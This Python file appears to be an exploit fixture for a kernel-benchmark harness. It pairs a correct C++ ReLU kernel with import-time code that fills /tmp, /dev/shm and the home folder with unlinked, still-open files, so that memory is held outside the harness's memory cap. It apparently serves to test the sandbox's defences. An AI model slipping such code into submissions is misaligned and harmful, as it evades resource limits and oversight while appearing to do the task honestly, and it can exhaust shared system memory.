"""Exploit (memory cap): a correct C++ ReLU that, when loaded, fills each tmpfs it may write,
its /tmp, its /dev/shm and its HOME, until the file system says it is full, each with a file
it unlinks and keeps open: memory held by no process's pages. Each is capped by its size;
uncounted, the three add their sizes to the memory cap (1 GiB, plus 256 MiB three times). It
writes at most EACH_BYTES to a folder (where HOME is on disk, the disk is not filled)."""
import errno
import os

import torch
import torch.nn as nn

from kforge_nb.runtime import cpp

EACH_BYTES = 2 << 30

source = r"""
#include <cstdint>

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
"""


def fill(folder: str) -> int:
    """A descriptor of a file in `folder`, unlinked, written until the folder is full."""
    path = os.path.join(folder, "filler.bin")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.unlink(path)
    chunk, written = b"\1" * (1 << 20), 0
    while written < EACH_BYTES:
        try:
            written += os.write(fd, chunk)
        except OSError as err:
            if err.errno != errno.ENOSPC:
                raise
            break
    return fd


kernels = cpp.load(source)
kept = [fill(folder) for folder in ("/tmp", "/dev/shm", os.environ["HOME"])]


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        y = torch.empty_like(x)
        kernels.relu(x, y, x.numel())
        return y
